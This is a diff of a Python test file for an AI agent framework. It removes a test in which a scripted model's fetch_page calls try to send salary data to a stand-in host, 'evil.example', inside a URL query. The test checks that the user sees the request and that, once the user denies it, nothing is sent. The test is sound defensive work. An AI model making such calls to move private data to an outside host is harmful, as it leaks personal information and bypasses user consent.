@@ -19,7 +19,6 @@ from specialists.registry import CREWS_FOLDER, load_crew
 from specialists.tools.web import web_tools as web_toolkit
 from specialists.tools.web.fetch import FetchSettings
 from specialists.tools.web.search import SearchSettings
-from specialists.turns.egress import MAX_SHOWN_CHARACTERS
 from tests.own_tools import all_tools
 from tests.providers.rendering import Reply
 from tests.providers.wire import WireRequest
@@ -193,20 +192,3 @@ async def test_with_nothing_private_nobody_is_asked_and_the_audit_has_tools_and_
     ]
     assert {(entry.job, entry.user) for entry in kept} == {(done.id, scene.person().id)}
     assert not any("pay of" in entry.model_dump_json() for entry in kept), "no contents"
-
-
-async def test_the_longest_request_that_is_asked_about_is_shown_whole(scene: Scene) -> None:
-    async with the_web() as there:
-        start = there.url("evil.example", "/?d=")
-        longest = start + "%20".join(["salary"] * 500)
-        longest = longest[: MAX_SHOWN_CHARACTERS - len("GET ")].rstrip("%0123456789")
-        turns = [tool_calls_of(("fetch_page", {"url": longest}), ("fetch_page", {"url": f"{longest}{'x' * 10}"}))]
-        async with job(scene, there, *turns):
-            talk = await scene.ask("Say what others pay", files=[PAY])
-            text = await decide(scene, talk, "deny")
-            await talk.over()
-    assert f"GET {longest}\nIn clear:\nGET {longest.replace('%20', ' ')}" in text
-    assert "characters in all" not in text.partition("What would leave")[2]
-    assert there.asked_addresses == []
-    replies = [event.reply.text for event in await talk.of(ev.ToolReturned)]
-    assert any("more than a person can be shown" in text for text in replies)
